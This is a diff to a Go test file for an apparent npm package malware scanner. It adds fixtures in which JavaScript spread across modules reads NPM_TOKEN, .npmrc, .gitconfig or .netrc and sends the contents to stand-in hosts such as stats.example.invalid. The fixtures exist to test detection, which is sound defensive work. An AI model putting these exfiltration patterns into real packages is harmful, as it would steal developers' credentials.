@@ -90,6 +90,14 @@ require("https").get(url, r => r.pipe(out)); require("child_process").spawn(proc
 		// the platform, are what clients do
 		{"own_token_at_runtime", map[string]string{"index.js": `const t = process.env.ACME_API_TOKEN; fetch("https://api.acme.example.invalid/v1/x", { headers: { authorization: "Bearer " + t } })`}, finding.SeverityLow},
 		{"npm_token_to_registry", map[string]string{"index.js": `fetch("https://registry.npm.local/-/whoami", { headers: { authorization: "Bearer " + process.env.NPM_TOKEN } })`}, finding.SeverityLow},
+		// a getter of another module, sent through the file's own request
+		// helper to the host handed to it
+		{"token_getter_other_module", map[string]string{
+			"package.json": rt.Pkg(`"main":"index.js"`),
+			"token.js":     `module.exports = { get token() { return process.env.NPM_TOKEN || ""; } };`,
+			"index.js": `const auth = require("./token");
+function get(host, headers) { require("https").request({ host, path: "/", headers }).end(); }
+get("stats.example.invalid", { "x-id": Buffer.from(String(auth.token)).toString("base64") });`}, finding.SeverityCritical},
 		{"object_keys_and_network", map[string]string{"index.js": `const ks = Object.keys(process.env); require("https").get("https://api.example.invalid/")`}, finding.SeverityMedium},
 		{"object_keys_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `for (const k in process.env) collect(k, process.env[k])`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
@@ -143,6 +151,13 @@ func TestFileAccess(t *testing.T) {
 		// .netrc read by an HTTP client for the host it talks to; read
 		// and sent to a constant foreign host it is theft
 		{"netrc_http_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".netrc"), "utf8"); module.exports = (url, o) => fetch(url, { ...o, headers: auth(rc, new URL(url).host) })`}, finding.SeverityMedium},
+		// a loop over config names in one module, sent by another
+		{"npmrc_list_other_module", map[string]string{
+			"package.json": rt.Pkg(`"main":"index.js"`),
+			"rc.js": `const fs = require("fs"), os = require("os"), path = require("path");
+exports.load = function () { const out = {}; for (const f of [".gitconfig", ".npmrc"]) out[f] = fs.readFileSync(path.join(os.homedir(), f), "utf8"); return out; };`,
+			"index.js": `const rc = require("./rc"); const send = require("./send"); send.report({ rc: rc.load() });`,
+			"send.js":  `exports.report = function (info) { require("https").request({ hostname: "stats.example.invalid", method: "POST" }).end(JSON.stringify(info)); };`}, finding.SeverityCritical},
 		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityCritical},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityCritical},
 		// credentials asked of their own CLI: at install, or by a release tool
